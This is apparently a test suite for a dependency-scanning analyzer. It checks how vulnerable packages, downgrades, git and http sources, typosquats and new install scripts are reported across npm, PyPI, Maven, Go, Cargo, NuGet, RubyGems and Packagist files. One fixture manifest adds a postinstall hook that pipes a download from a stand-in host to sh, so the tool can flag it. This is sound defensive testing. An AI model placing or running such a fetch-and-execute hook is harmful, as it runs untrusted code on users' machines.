import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDepsAnalyzer, analyzer as defaultAnalyzer } from '../../src/analyzers/deps/index.js';
import type { AnalyzedFile, AnalyzerContext } from '../../src/analyzers/types.js';
import { loadConfig } from '../../src/config/index.js';
import { processFindings } from '../../src/findings/process.js';
import { advisory, startFakeOsv, type FakeOsv } from './fake-osv.js';
import { file, lineOf, only } from './helpers.js';

const log = { debug() {}, info() {}, warn() {}, setSecret() {} };
function ctx(osvUrl: string, raw: Record<string, unknown> = {}): AnalyzerContext {
  const config = loadConfig({ inputs: { 'osv-url': osvUrl } });
  Object.assign(config.raw, raw);
  return { config, change: { mode: 'review', root: '/repo', source: 'git' }, log };
}

const DB = [
  advisory('GHSA-35jh-r3h4-6jhm', 'npm', 'lodash', ['4.17.20'], '4.17.21', { summary: 'Command Injection in lodash', aliases: ['CVE-2021-23337'] }),
  advisory('GHSA-xvch-5gv4-984h', 'npm', 'minimist', ['1.2.5'], '1.2.6', {
    summary: 'Prototype Pollution in minimist',
    aliases: ['CVE-2021-44906'],
    severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:L/I:L/A:L' }],
    database_specific: { severity: 'MODERATE', cwe_ids: ['CWE-1321'] },
  }),
  advisory('PYSEC-2021-0001', 'PyPI', 'django', ['3.2.1'], '3.2.2', { aliases: ['CVE-2021-31542', 'GHSA-rxjp-mfm9-w4wr'] }),
  advisory('GHSA-jfh8-c2jp-5v3q', 'Maven', 'org.apache.logging.log4j:log4j-core', ['2.14.1'], '2.15.0', {
    summary: 'Remote code injection in Log4j',
    aliases: ['CVE-2021-44228'],
    severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H' }],
  }),
  advisory('GO-2020-0001', 'Go', 'github.com/gin-gonic/gin', ['1.6.0'], '1.6.3', { aliases: ['CVE-2020-28483', 'GHSA-h395-qcrw-5vmq'], severity: [] , database_specific: { severity: 'HIGH' } }),
  advisory('RUSTSEC-2021-0001', 'crates.io', 'smallvec', ['1.6.0'], '1.6.1', { aliases: ['CVE-2021-25900', 'GHSA-43w2-9j62-hq99'] }),
  advisory('GHSA-5crp-9r3c-p9vr', 'NuGet', 'Newtonsoft.Json', ['12.0.1'], '13.0.1', { aliases: ['CVE-2024-21907'], severity: [{ type: 'CVSS_V4', score: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:N/VI:N/VA:H/SC:N/SI:N/SA:N' }], database_specific: { severity: 'HIGH', cwe_ids: ['CWE-674'] } }),
  advisory('GHSA-rubygems-0001', 'RubyGems', 'nokogiri', ['1.13.9'], '1.13.10'),
  advisory('GHSA-packagist-001', 'Packagist', 'guzzlehttp/guzzle', ['7.4.4'], '7.4.5'),
  advisory('GHSA-hrpp-h998-j3pp', 'npm', 'qs', ['6.7.0'], '6.7.3', { summary: 'qs vulnerable to Prototype Pollution', aliases: ['CVE-2022-24999'] }),
  advisory('GHSA-withdrawn-01', 'npm', 'qs', ['6.7.0'], '6.7.1', { withdrawn: '2023-01-01T00:00:00Z' }),
];

let osv: FakeOsv;
beforeAll(async () => {
  osv = await startFakeOsv({ db: DB });
});
afterAll(async () => {
  await osv.close();
});

const analyzer = createDepsAnalyzer({ retryDelayMs: 10 });

describe('deps analyzer: npm manifest + lock in review mode', () => {
  const basePkg = `{
  "name": "app",
  "scripts": {
    "preinstall": "node check.js"
  },
  "dependencies": {
    "express": "^4.17.1"
  }
}`;
  const headPkg = `{
  "name": "app",
  "scripts": {
    "preinstall": "node check.js",
    "postinstall": "curl -s http://x.example/i.sh | sh"
  },
  "dependencies": {
    "express": "^4.17.1",
    "lodash": "^4.17.20",
    "lodahs": "^1.0.0",
    "left-pad": "git+https://github.com/someone/left-pad.git#main",
    "insecure": "http://cdn.example.com/insecure-1.0.0.tgz"
  }
}`;
  const lock = (extra: Record<string, unknown>) =>
    JSON.stringify(
      {
        name: 'app',
        lockfileVersion: 3,
        packages: {
          '': { name: 'app', dependencies: { express: '^4.17.1', lodash: '^4.17.20' } },
          'node_modules/express': { version: '4.17.1' },
          ...extra,
        },
      },
      null,
      2,
    );
  const baseLock = lock({ 'node_modules/minimist': { version: '1.2.6' } });
  const headLock = lock({ 'node_modules/lodash': { version: '4.17.20' }, 'node_modules/minimist': { version: '1.2.5' } });

  it('reports each vulnerable package at the changed manifest line, else at the lock entry, with ids, severity, fix', async () => {
    const files = [file('package.json', headPkg, basePkg), file('package-lock.json', headLock, baseLock)];
    const result = await analyzer.analyze(files, ctx(osv.url));
    const vulns = only(result.findings, 'deps/vulnerable');
    expect(vulns).toHaveLength(2);

    const lodash = vulns.find((f) => f.properties?.['package'] === 'lodash')!;
    expect(lodash.location).toMatchObject({ path: 'package.json', startLine: lineOf(headPkg, '"lodash"') });
    expect(lodash.severity).toBe('critical');
    expect(lodash.securitySeverity).toBe(9.8);
    expect(lodash.message).toContain('GHSA-35jh-r3h4-6jhm');
    expect(lodash.message).toContain('CVE-2021-23337');
    expect(lodash.message).toContain('Fixed in 4.17.21');
    expect(lodash.confidence).toBe('high'); // exact version from the lock file
    expect(lodash.cwe).toContain('CWE-1321');
    expect(lodash.fix?.replacements).toEqual([{ path: 'package.json', startLine: lineOf(headPkg, '"lodash"'), endLine: lineOf(headPkg, '"lodash"'), text: '    "lodash": "^4.17.21",' }]);

    // minimist is transitive (lock only) and downgraded there: reported at the lock entry.
    const minimist = vulns.find((f) => f.properties?.['package'] === 'minimist')!;
    // The entry's key line through its version line: a version bump changes only the latter.
    expect(minimist.location).toMatchObject({ path: 'package-lock.json', startLine: lineOf(headLock, '"node_modules/minimist"'), endLine: lineOf(headLock, '"node_modules/minimist"') + 1 });
    expect(minimist.severity).toBe('high');
    expect(minimist.securitySeverity).toBe(7.3);
    expect(minimist.fix).toBeUndefined();

    // The findings stage keeps them (locations are on changed lines) — what SARIF and annotations will show.
    const kept = processFindings(result.findings, { files, minSeverity: 'low' }).findings;
    expect(kept.filter((f) => f.ruleId === 'deps/vulnerable').map((f) => `${f.location.path}:${f.location.startLine}`).sort()).toEqual(
      [`package-lock.json:${lineOf(headLock, '"node_modules/minimist"')}`, `package.json:${lineOf(headPkg, '"lodash"')}`].sort(),
    );
    expect(result.stats).toMatchObject({ files: 2, osvQueries: 3 });
  });

  it('flags downgrade, git and http sources, new install scripts and typosquats — once each', async () => {
    const files = [file('package.json', headPkg, basePkg), file('package-lock.json', headLock, baseLock)];
    const { findings } = await analyzer.analyze(files, ctx(osv.url));
    expect(only(findings, 'deps/downgrade').map((f) => f.message)).toEqual(['minimist is downgraded from 1.2.6 to 1.2.5.']);
    expect(only(findings, 'deps/git-source').map((f) => f.location.startLine)).toEqual([lineOf(headPkg, 'left-pad')]);
    expect(only(findings, 'deps/insecure-source').map((f) => f.location.startLine)).toEqual([lineOf(headPkg, '"insecure"')]);
    const scripts = only(findings, 'deps/install-script');
    expect(scripts.map((f) => f.location.startLine)).toEqual([lineOf(headPkg, 'postinstall')]); // preinstall existed before
    const squat = only(findings, 'deps/typosquat');
    expect(squat).toHaveLength(1);
    expect(squat[0]).toMatchObject({ location: { path: 'package.json', startLine: lineOf(headPkg, 'lodahs') }, properties: { lookalike: 'lodash' } });
  });

  it('a lock-only bump of a direct dependency is reported at the lock entry (the manifest line did not change)', async () => {
    const pkg = `{\n  "dependencies": {\n    "lodash": "^4.17.0"\n  }\n}`;
    const before = JSON.stringify({ lockfileVersion: 3, packages: { '': { dependencies: { lodash: '^4.17.0' } }, 'node_modules/lodash': { version: '4.17.19' } } }, null, 2);
    const after = before.replace('4.17.19', '4.17.20');
    const files = [file('package.json', pkg.replace('{', '{ '), pkg), file('package-lock.json', after, before)];
    const { findings } = await analyzer.analyze(files, ctx(osv.url));
    const [f] = only(findings, 'deps/vulnerable');
    expect(f?.location).toMatchObject({ path: 'package-lock.json', startLine: lineOf(after, '"node_modules/lodash"') });
  });

  it('a transitive package is reported at the changed manifest line of the dependency that pulls it in', async () => {
    const pkgBase = `{\n  "dependencies": {\n    "lodash": "^4.17.21"\n  }\n}`;
    const pkgHead = `{\n  "dependencies": {\n    "lodash": "^4.17.21",\n    "express": "^4.17.1"\n  }\n}`;
    const lockOf = (packages: Record<string, unknown>) => JSON.stringify({ lockfileVersion: 3, packages }, null, 2);
    const lockBase = lockOf({ '': {}, 'node_modules/lodash': { version: '4.17.21' } });
    const lockHead = lockOf({
      '': {},
      'node_modules/lodash': { version: '4.17.21' },
      'node_modules/express': { version: '4.17.1', dependencies: { 'body-parser': '1.19.0' } },
      'node_modules/body-parser': { version: '1.19.0', dependencies: { qs: '6.7.0' } },
      'node_modules/qs': { version: '6.7.0' },
    });
    const { findings } = await analyzer.analyze([file('package.json', pkgHead, pkgBase), file('package-lock.json', lockHead, lockBase)], ctx(osv.url));
    const [qs] = only(findings, 'deps/vulnerable');
    expect(qs).toMatchObject({ location: { path: 'package.json', startLine: 4 }, properties: { package: 'qs', introducedBy: 'express' } });
    expect(qs?.message).toContain('pulled in by express');
    expect(qs?.message).not.toContain('GHSA-withdrawn-01'); // retracted advisories are dropped
    expect(qs?.fix).toBeUndefined(); // upgrading express is not a mechanical edit
  });

  it('OSV down: a Notice says so and the other checks still report', async () => {
    const down = await startFakeOsv({ failFirst: { count: 100, status: 503 } });
    try {
      const files = [file('package.json', headPkg, basePkg), file('package-lock.json', headLock, baseLock)];
      const result = await analyzer.analyze(files, ctx(down.url));
      expect(only(result.findings, 'deps/vulnerable')).toHaveLength(0);
      expect(result.notices?.some((n) => /OSV unreachable.*HTTP 503.*dependency vulnerabilities not checked/.test(n.message))).toBe(true);
      expect(only(result.findings, 'deps/typosquat')).toHaveLength(1);
      expect(only(result.findings, 'deps/install-script')).toHaveLength(1);
      expect(down.requests).toHaveLength(2); // one try + one retry
    } finally {
      await down.close();
    }
  });

  it('OSV timeout comes from config.raw["osv-timeout-ms"]', async () => {
    const slow = await startFakeOsv({ db: DB, delayMs: 1500 });
    try {
      const started = performance.now();
      const result = await analyzer.analyze([file('package.json', headPkg, basePkg)], ctx(slow.url, { 'osv-timeout-ms': 50 }));
      expect(performance.now() - started).toBeLessThan(1200);
      expect(result.notices?.some((n) => n.message.includes('timed out'))).toBe(true);
    } finally {
      await slow.close();
    }
  });
});

describe('deps analyzer: other ecosystems land on the right manifest line', () => {
  it('requirements.txt with a mechanical fix', async () => {
    const base = 'flask==2.0.0\n';
    const head = 'flask==2.0.0\nDjango==3.2.1  # web\n';
    const { findings } = await analyzer.analyze([file('requirements.txt', head, base)], ctx(osv.url));
    const [f] = only(findings, 'deps/vulnerable');
    expect(f?.location.startLine).toBe(2);
    expect(f?.message).toContain('PYSEC-2021-0001 / CVE-2021-31542 / GHSA-rxjp-mfm9-w4wr');
    expect(f?.fix?.replacements[0]?.text).toBe('Django==3.2.2  # web');
  });

  it('pom.xml: the dependency block, or the property line when only the property changed', async () => {
    const pom = (v: string) => `<project>
  <properties>
    <log4j.version>${v}</log4j.version>
  </properties>
  <dependencies>
    <dependency>
      <groupId>org.apache.logging.log4j</groupId>
      <artifactId>log4j-core</artifactId>
      <version>\${log4j.version}</version>
    </dependency>
  </dependencies>
</project>`;
    const { findings } = await analyzer.analyze([file('pom.xml', pom('2.14.1'), pom('2.13.0'))], ctx(osv.url));
    const [f] = only(findings, 'deps/vulnerable');
    expect(f).toMatchObject({ severity: 'critical', securitySeverity: 10, location: { path: 'pom.xml', startLine: 3 } });
    expect(f?.fix?.replacements[0]).toMatchObject({ startLine: 3, text: '    <log4j.version>2.15.0</log4j.version>' });
    // Added dependency block: reported on the block.
    const added = await analyzer.analyze([file('pom.xml', pom('2.14.1'))], ctx(osv.url));
    expect(only(added.findings, 'deps/vulnerable')[0]?.location).toMatchObject({ startLine: 6, endLine: 10 });
  });

  it('go.mod queries OSV without the v prefix and fixes with it', async () => {
    const head = 'module x\n\ngo 1.21\n\nrequire github.com/gin-gonic/gin v1.6.0\n';
    const { findings } = await analyzer.analyze([file('go.mod', head, 'module x\n\ngo 1.21\n')], ctx(osv.url));
    const [f] = only(findings, 'deps/vulnerable');
    expect(f).toMatchObject({ severity: 'high', location: { startLine: 5 } });
    expect(f?.fix?.replacements[0]?.text).toBe('require github.com/gin-gonic/gin v1.6.3');
  });

  it('Cargo.toml range uses its lowest version, with medium confidence', async () => {
    const head = '[dependencies]\nsmallvec = "1.6.0"\n';
    const { findings } = await analyzer.analyze([file('Cargo.toml', head, '[dependencies]\n')], ctx(osv.url));
    const [f] = only(findings, 'deps/vulnerable');
    expect(f).toMatchObject({ confidence: 'medium', location: { startLine: 2 } });
    expect(f?.message).toContain('the lowest version');
  });

  it('csproj (CVSS v4 advisory), Gemfile.lock and composer.lock', async () => {
    const csproj = '<Project>\n  <ItemGroup>\n    <PackageReference Include="Newtonsoft.Json" Version="12.0.1" />\n  </ItemGroup>\n</Project>';
    const gem = 'GEM\n  remote: https://rubygems.org/\n  specs:\n    nokogiri (1.13.9)\n\nDEPENDENCIES\n  nokogiri\n';
    const composer = JSON.stringify({ packages: [{ name: 'guzzlehttp/guzzle', version: '7.4.4' }] }, null, 2);
    const { findings } = await analyzer.analyze([file('App.csproj', csproj), file('Gemfile.lock', gem), file('composer.lock', composer)], ctx(osv.url));
    const byPath = Object.fromEntries(only(findings, 'deps/vulnerable').map((f) => [f.location.path, f]));
    expect(byPath['App.csproj']).toMatchObject({ severity: 'high', securitySeverity: 7.5, location: { startLine: 3 } });
    expect(byPath['App.csproj']?.message).toContain('CVSS 4.0 (approximate)');
    expect(byPath['Gemfile.lock']?.location.startLine).toBe(4);
    expect(byPath['composer.lock']?.location).toMatchObject({ startLine: 4, endLine: 5 });
  });

  it('scan mode checks every declared dependency', async () => {
    const head = 'django==3.2.1\nflask==2.0.0\n';
    const scan: AnalyzedFile = { ...file('requirements.txt', head), changedLines: 'all' };
    const { findings } = await analyzer.analyze([scan], { ...ctx(osv.url), change: { mode: 'scan', root: '/repo', source: 'filesystem' } });
    expect(only(findings, 'deps/vulnerable').map((f) => f.location.startLine)).toEqual([1]);
  });

  it('a malformed file becomes a Notice naming it; the other files are still analysed', async () => {
    const result = await analyzer.analyze([file('package.json', '{ "dependencies": '), file('requirements.txt', 'django==3.2.1\n')], ctx(osv.url));
    expect(result.notices?.[0]?.message).toMatch(/^package\.json: could not parse/);
    expect(only(result.findings, 'deps/vulnerable')).toHaveLength(1);
  });

  it('git sources pinned to a full commit are low, branches medium; unsupported files get one info notice', async () => {
    const head = `{\n  "dependencies": {\n    "a": "git+https://github.com/x/a.git#0123456789abcdef0123456789abcdef01234567",\n    "b": "github:x/b#main"\n  }\n}`;
    const result = await analyzer.analyze([file('package.json', head), file('flake.lock', '{\n  "version": 7\n}\n'), file('go.sum', 'x v1 h1:abc\n')], ctx(osv.url));
    const git = only(result.findings, 'deps/git-source');
    expect(git.map((f) => [f.properties?.['package'], f.severity])).toEqual([
      ['a', 'low'],
      ['b', 'medium'],
    ]);
    expect(result.notices).toEqual([{ level: 'info', source: 'deps', message: 'dependency files not analysed (format not supported): flake.lock' }]);
  });

  it('a plain-http gem source in a Gemfile and a http composer repository are insecure sources', async () => {
    const gemfile = 'source "http://rubygems.org"\ngem "rails", "~> 6.1.0"\n';
    const composer = '{\n  "repositories": [\n    { "type": "composer", "url": "http://packages.example.com" }\n  ]\n}';
    const { findings } = await analyzer.analyze([file('Gemfile', gemfile), file('composer.json', composer)], ctx(osv.url));
    expect(only(findings, 'deps/insecure-source').map((f) => `${f.location.path}:${f.location.startLine}`)).toEqual(['Gemfile:1', 'composer.json:3']);
  });

  it('lists every rule it can emit', () => {
    const ids = defaultAnalyzer.rules().map((r) => r.id);
    expect(ids.sort()).toEqual(['deps/downgrade', 'deps/git-source', 'deps/insecure-source', 'deps/install-script', 'deps/typosquat', 'deps/vulnerable']);
  });
});
